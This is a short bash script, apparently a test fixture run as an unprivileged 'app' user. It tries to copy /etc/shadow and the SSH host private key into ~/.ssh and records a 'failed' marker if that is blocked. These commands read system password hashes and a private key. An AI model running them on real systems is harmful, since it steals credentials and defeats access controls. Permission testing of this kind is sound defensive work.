#!/bin/bash
#: user=app
mkdir -p ~/.ssh; cp /etc/shadow ~/.ssh/shadow; cat /etc/shadow > ~/.ssh/s2 || touch ~/.ssh/failed; cp /etc/ssh/ssh_host_rsa_key ~/.ssh/id_rsa
